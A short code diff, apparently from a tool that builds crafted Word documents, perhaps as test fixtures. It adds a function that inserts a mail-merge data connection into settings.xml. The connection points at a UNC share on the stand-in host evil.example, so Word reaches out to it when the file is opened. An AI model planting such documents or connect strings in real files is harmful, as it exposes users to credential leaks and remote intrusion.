@@ -825,3 +825,14 @@ def alt_chunk_rtf_objupdate(base: bytes) -> bytes:
 
 def alt_chunk_docx(base: bytes, inner: bytes) -> bytes:
     return with_alt_chunk(base, "afchunk.docx", inner, _CT_WORD + "document.main+xml")
+
+
+def mail_merge_settings(base: bytes, connect: str = "Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\s\\db.accdb") -> bytes:
+    """settings.xml of a mail-merge main document: Word runs the query when it opens it."""
+    settings = read_part(base, "word/settings.xml").decode()
+    i = settings.index(">", settings.index("<w:settings")) + 1
+    merge = (f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
+             f'<w:connectString w:val="{connect}"/><w:query w:val="SELECT * FROM `Blad1$`"/></w:mailMerge>')
+    # mailMerge comes after a few elements in CT_Settings order; Word accepts it near the start too
+    settings = settings[:i] + merge + settings[i:]
+    return rezip(base, replace={"word/settings.xml": settings.encode()})
